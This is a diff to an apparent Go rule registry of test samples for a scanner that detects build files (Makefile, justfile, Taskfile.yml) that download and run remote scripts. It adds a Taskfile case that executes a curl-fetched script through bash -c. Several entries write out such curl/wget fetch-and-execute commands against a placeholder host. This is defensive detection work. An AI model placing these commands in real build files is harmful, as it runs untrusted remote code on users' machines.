@@ -90,6 +90,8 @@ var registry = []Rule{
 		{"tools.mk", "R := $(shell curl -s https://x.invalid/i.sh)\nall:\n\t@echo \"$(R)\" | sh", 3, false},
 		{"justfile", "u := \"https://x.invalid/f.sh\"\nfmt:\n    curl -fsSL {{u}} -o /tmp/f.sh\n    sh /tmp/f.sh", 4, false},
 		{"Taskfile.yml", "version: '3'\ntasks:\n  fmt:\n    cmds:\n      - wget -qO /tmp/f.sh https://x.invalid/f.sh\n      - cmd: bash /tmp/f.sh", 6, false},
+		{"Taskfile.yml", "version: '3'\nvars:\n  BOOT:\n    sh: curl -fsSL https://x.invalid/b.sh\ntasks:\n  x:\n    cmds:\n      - bash -c \"{{.BOOT}}\"", 8, false},
+		{"Taskfile.yml", "version: '3'\nvars:\n  V: {sh: \"curl -fsSL https://api.x.invalid/latest\"}\ntasks:\n  x:\n    cmds:\n      - echo \"{{.V}}\" > VERSION", 0, true},
 		// make's automatic variables: curl -o $@ writes the rule's target, which another rule runs.
 		{"Makefile", "BOOT := $(CURDIR)/.cache/boot.sh\n$(BOOT):\n\tcurl -fsSL https://x.invalid/boot.sh -o $@\ntools: $(BOOT)\n\tsh $(BOOT) --quiet", 5, false},
 		// A version read from the network is text, not code.
